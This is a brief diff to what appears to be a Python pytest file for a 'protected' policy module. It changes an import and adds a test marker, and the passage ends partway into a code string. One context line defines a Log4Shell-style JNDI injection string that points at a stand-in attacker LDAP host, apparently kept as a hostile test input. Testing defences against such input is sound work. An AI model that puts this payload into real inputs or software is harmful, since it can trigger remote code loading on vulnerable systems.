@@ -4,8 +4,9 @@ import base64
 import json
 
 import pytest
-from protected import policy
+from protected import oldest_and_newest, policy
 
+pytestmark = oldest_and_newest
 ATTACK = "${jndi:ldap://evil.example/a}"  # in no harmless event
 CODE = """
 import os
